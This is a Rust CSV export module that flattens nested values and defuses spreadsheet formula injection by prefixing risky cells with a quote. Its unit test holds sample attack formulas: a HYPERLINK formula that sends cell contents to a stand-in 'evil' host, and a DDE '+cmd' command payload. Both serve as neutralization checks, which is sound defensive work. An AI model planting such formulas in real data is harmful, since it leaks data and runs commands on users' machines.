//! CSV with the same columns as the JSON items: nested values flattened (`tags` as
//! `key=value;key=value` with `;`, `=` and `\` inside a key or value escaped by `\`, lists
//! joined by `;`), and safe to open in a spreadsheet: a text cell that starts with `=`, `+`,
//! `-`, `@`, TAB or CR gets a leading `'`, so it is never run as a formula (OWASP's rule).

use serde::Serialize;
use serde_json::Value;

use crate::error::AppError;

/// Writes `items` as CSV under `columns` (the JSON item keys, in order).
pub fn to_csv<T: Serialize>(
    columns: &[&str],
    items: impl IntoIterator<Item = T>,
) -> Result<String, AppError> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(columns).map_err(csv_error)?;
    let mut record: Vec<String> = Vec::with_capacity(columns.len());
    for item in items {
        let value = serde_json::to_value(&item).map_err(|e| AppError::Internal(format!("csv: {e}")))?;
        record.clear();
        for column in columns {
            record.push(cell(value.get(*column).unwrap_or(&Value::Null)));
        }
        writer.write_record(&record).map_err(csv_error)?;
    }
    let bytes = writer.into_inner().map_err(|e| AppError::Internal(format!("csv: {e}")))?;
    String::from_utf8(bytes).map_err(|e| AppError::Internal(format!("csv: {e}")))
}

#[allow(clippy::needless_pass_by_value)] // the shape `map_err` calls
fn csv_error(e: csv::Error) -> AppError {
    AppError::Internal(format!("csv: {e}"))
}

/// Whether a spreadsheet would read a cell starting so as a formula.
fn formula_like(text: &str) -> bool {
    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// `text` made safe to open: a leading `'` when it would read as a formula.
pub(crate) fn neutralize(text: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// Appends `text` to `out` with `;`, `=` and `\` escaped by `\` (a `tags` key or value).
fn push_escaped(out: &mut String, text: &str) {
    for c in text.chars() {
        if matches!(c, ';' | '=' | '\\') {
            out.push('\\');
        }
        out.push(c);
    }
}

fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => neutralize(s).into_owned(),
        Value::Bool(b) => b.to_string(),
        Value::Number(n) => n.to_string(),
        Value::Array(items) => {
            let joined = items
                .iter()
                .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
                .collect::<Vec<_>>()
                .join(";");
            neutralize(&joined).into_owned()
        }
        Value::Object(map) => {
            let mut out = String::new();
            for (i, (k, v)) in map.iter().enumerate() {
                if i > 0 {
                    out.push(';');
                }
                push_escaped(&mut out, k);
                out.push('=');
                push_escaped(&mut out, v.as_str().unwrap_or_default());
            }
            neutralize(&out).into_owned()
        }
    }
}

/// A row that writes its own CSV cells, in its table's column order: the fast path for
/// large tables (no JSON in between).
pub trait CsvRow {
    /// Writes one cell per column.
    fn write_cells(&self, cells: &mut Cells<'_>);
}

impl<T: CsvRow + ?Sized> CsvRow for &T {
    fn write_cells(&self, cells: &mut Cells<'_>) {
        (**self).write_cells(cells);
    }
}

/// Writes the cells of one row, flattening as [`to_csv`] does.
pub struct Cells<'a> {
    writer: &'a mut csv::Writer<Vec<u8>>,
    scratch: String,
    error: Option<csv::Error>,
}

impl Cells<'_> {
    /// A text cell (neutralized if it would read as a formula).
    pub fn text(&mut self, value: &str) {
        self.raw(&neutralize(value));
    }

    /// A cell written as it is: numbers, times, names Polo makes.
    fn raw(&mut self, value: &str) {
        if self.error.is_none()
            && let Err(e) = self.writer.write_field(value)
        {
            self.error = Some(e);
        }
    }

    /// An optional text cell (empty when absent).
    pub fn maybe(&mut self, value: Option<&str>) {
        self.text(value.unwrap_or(""));
    }

    /// A cell of anything printable.
    pub fn display(&mut self, value: impl std::fmt::Display) {
        use std::fmt::Write as _;
        let mut scratch = std::mem::take(&mut self.scratch);
        scratch.clear();
        let _ = write!(scratch, "{value}");
        self.raw(&scratch);
        self.scratch = scratch;
    }

    /// An RFC 3339 time, as JSON writes it.
    pub fn time(&mut self, value: Option<time::OffsetDateTime>) {
        match value.map(|t| t.format(&time::format_description::well_known::Rfc3339)) {
            Some(Ok(text)) => self.raw(&text),
            _ => self.raw(""),
        }
    }

    /// `key=value;key=value`, with `;`, `=` and `\` escaped.
    pub fn pairs<'k>(&mut self, pairs: impl IntoIterator<Item = (&'k str, &'k str)>) {
        let mut scratch = std::mem::take(&mut self.scratch);
        scratch.clear();
        for (i, (k, v)) in pairs.into_iter().enumerate() {
            if i > 0 {
                scratch.push(';');
            }
            push_escaped(&mut scratch, k);
            scratch.push('=');
            push_escaped(&mut scratch, v);
        }
        self.text(&scratch);
        self.scratch = scratch;
    }

    /// A list joined by `;`.
    pub fn list<'k>(&mut self, items: impl IntoIterator<Item = &'k str>) {
        let mut scratch = std::mem::take(&mut self.scratch);
        scratch.clear();
        for (i, item) in items.into_iter().enumerate() {
            if i > 0 {
                scratch.push(';');
            }
            scratch.push_str(item);
        }
        self.text(&scratch);
        self.scratch = scratch;
    }
}

/// Writes `rows` as CSV under `columns`, each row writing its own cells.
pub fn rows_to_csv<R: CsvRow>(
    columns: &[&str],
    rows: impl IntoIterator<Item = R>,
) -> Result<String, AppError> {
    let mut writer = csv::Writer::from_writer(Vec::with_capacity(64 * 1024));
    writer.write_record(columns).map_err(csv_error)?;
    let mut scratch = String::new();
    for row in rows {
        let mut cells = Cells { writer: &mut writer, scratch, error: None };
        row.write_cells(&mut cells);
        scratch = cells.scratch;
        if let Some(e) = cells.error {
            return Err(csv_error(e));
        }
        writer.write_record(std::iter::empty::<&[u8]>()).map_err(csv_error)?;
    }
    let bytes = writer.into_inner().map_err(|e| AppError::Internal(format!("csv: {e}")))?;
    String::from_utf8(bytes).map_err(|e| AppError::Internal(format!("csv: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flattens_and_quotes() {
        let items = vec![
            serde_json::json!({"id": "a,b", "tags": {"k": "v", "x": "\"y\""}, "n": 3, "none": null, "list": ["p", "q"]}),
        ];
        let csv = to_csv(&["id", "tags", "n", "none", "list"], items).unwrap();
        assert_eq!(csv, "id,tags,n,none,list\n\"a,b\",\"k=v;x=\"\"y\"\"\",3,,p;q\n");
    }

    #[test]
    fn formulas_never_reach_a_spreadsheet() {
        for (raw, safe) in [
            ("=HYPERLINK(\"https://evil/?\"&A1)", "'=HYPERLINK(\"https://evil/?\"&A1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1", "'\r=1"),
            ("plain", "plain"),
            ("a=b", "a=b"),
        ] {
            assert_eq!(neutralize(raw), safe, "{raw:?}");
        }
        let item = serde_json::json!({ "tags": { "=evil": "x", "k": "a;b=c\\d" }, "owner": "+1" });
        let csv = to_csv(&["tags", "owner"], [item]).unwrap();
        assert_eq!(csv, "tags,owner\n\\=evil=x;k=a\\;b\\=c\\\\d,'+1\n");
    }
}
